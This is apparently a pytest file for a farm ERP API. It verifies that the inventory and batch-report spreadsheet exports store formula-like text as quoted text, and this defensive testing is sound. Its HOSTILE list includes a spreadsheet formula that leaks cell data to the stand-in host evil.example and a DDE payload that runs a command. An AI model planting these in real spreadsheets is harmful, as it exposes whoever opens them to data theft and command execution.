"""Every workbook the API serves is safe to open: text that looks like a formula is stored as text (never a
formula), and every text reads back exactly as it was entered (OOXML escapes decoded, as Excel does)."""

from __future__ import annotations

import io
from datetime import UTC, datetime
from typing import Any

import psycopg
import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from farm_erp import clock
from tests.support.client import ApiClient, Response

# Text a spreadsheet would run as a formula, or that XML cannot carry as it is.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "=1+1\twith a tab",
    "line one\r\nline two",
    "bell\x07and\x01control",
    "literal _x0041_ escape",
]


def ok(r: Response, status: int = 201) -> Any:
    assert r.status_code == status, r
    return r.json()


def cells(r: Response) -> list[Any]:
    """Every non-empty cell of every sheet of the workbook in the response."""
    assert r.status_code == 200, r
    wb = load_workbook(io.BytesIO(r.content))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def assert_safe(r: Response, expected: list[str]) -> None:
    found = cells(r)
    formulas = [c.coordinate for c in found if c.data_type == "f"]
    assert not formulas, f"formula cells: {formulas}"
    texts = {unescape(c.value) for c in found if isinstance(c.value, str)}
    missing = [t for t in expected if t not in texts]
    assert not missing, f"text not preserved: {missing!r}"
    for c in found:
        if isinstance(c.value, str) and unescape(c.value)[:1] in ("=", "+", "-", "@"):
            assert c.quotePrefix, f"{c.coordinate} {c.value!r} lacks the quote prefix"


@pytest.fixture
def admin(admin_token: str) -> str:
    clock.freeze(datetime(2025, 3, 10, 9, 0, tzinfo=UTC))
    return admin_token


def test_inventory_exports_write_text_as_text(
    api: ApiClient, admin: str, sql: psycopg.Connection[dict[str, Any]]
) -> None:
    kg = sql.execute("SELECT id FROM units WHERE abbreviation = 'kg'").fetchone()
    assert kg is not None
    supplier = ok(api.post("/inventory/suppliers", json={"name": HOSTILE[0]}, token=admin))["id"]
    category = ok(api.post("/inventory/categories", json={"name": HOSTILE[1]}, token=admin))["id"]
    items = []
    for n, name in enumerate(HOSTILE):
        body = {"sku": f"X{n}", "name": name, "unit_id": kg["id"], "category_id": category}
        items.append(ok(api.post("/inventory/items", json=body, token=admin))["id"])
        add = {"item_id": items[-1], "quantity": "5", "unit_cost": "1", "lot_number": name[:100], "notes": name}
        add["supplier_id"] = supplier
        ok(api.post("/inventory/stock/add", json=add, token=admin))
    use = {"item_id": items[0], "quantity": "1", "purpose": HOSTILE[2], "notes": HOSTILE[3]}
    ok(api.post("/inventory/stock/use", json=use, token=admin), 200)
    po = {
        "supplier_id": supplier,
        "po_number": "=PO+1",
        "notes": HOSTILE[4],
        "lines": [{"item_id": items[0], "ordered_qty": "2", "unit_cost": "1"}],
    }
    ok(api.post("/inventory/purchase-orders", json=po, token=admin))

    stored_names = [r["name"] for r in sql.execute("SELECT name FROM items ORDER BY id")]
    assert stored_names == [h.strip() for h in HOSTILE]
    assert_safe(api.get("/inventory/exports/stock.xlsx", token=admin), [*stored_names, HOSTILE[0], HOSTILE[1]])
    assert_safe(api.get("/inventory/exports/ledger.xlsx", token=admin), stored_names)
    assert_safe(api.get("/inventory/exports/purchase-orders.xlsx", token=admin), ["=PO+1", HOSTILE[0]])


def test_batch_report_writes_text_as_text(api: ApiClient, admin: str, sql: psycopg.Connection[dict[str, Any]]) -> None:
    kg = sql.execute("SELECT id FROM units WHERE abbreviation = 'kg'").fetchone()
    assert kg is not None
    item = ok(api.post("/inventory/items", json={"sku": "FEED", "name": HOSTILE[0], "unit_id": kg["id"]}, token=admin))
    ok(api.put(f"/inventory/items/{item['id']}/modules/biofloc", json={"is_primary": True}, token=admin), 200)
    stock = {"item_id": item["id"], "quantity": "100", "unit_cost": "2", "received_date": "2025-03-01"}
    ok(api.post("/inventory/stock/add", json=stock, token=admin))
    tank = ok(
        api.post("/biofloc/tanks", json={"code": "T1", "name": HOSTILE[3], "capacity_liters": "1000"}, token=admin)
    )
    batch = {
        "code": "B1",
        "species": HOSTILE[1],
        "source": HOSTILE[2],
        "stocking_date": "2025-03-01",
        "initial_count": 100,
        "initial_avg_weight_g": "5",
        "tank_id": tank["id"],
        "notes": HOSTILE[5],
    }
    batch_id = ok(api.post("/biofloc/batches", json=batch, token=admin))["id"]
    feeding = {
        "tank_id": tank["id"],
        "feeding_date": "2025-03-05",
        "session_number": 1,
        "lines": [{"item_id": item["id"], "quantity_kg": "1"}],
        "notes": HOSTILE[6],
    }
    ok(api.post("/biofloc/feedings", json=feeding, token=admin))
    mortality = {"batch_id": batch_id, "mortality_date": "2025-03-05", "count": 1, "cause": HOSTILE[2]}
    ok(api.post("/biofloc/mortalities", json=mortality, token=admin))
    cost = {"category": "other", "amount": "10", "entry_date": "2025-03-06", "description": HOSTILE[4]}
    ok(api.post(f"/biofloc/batches/{batch_id}/costs", json=cost, token=admin))

    report = api.get(f"/biofloc/batches/{batch_id}/report.xlsx", token=admin)
    assert_safe(report, [HOSTILE[0], HOSTILE[2], HOSTILE[4]])
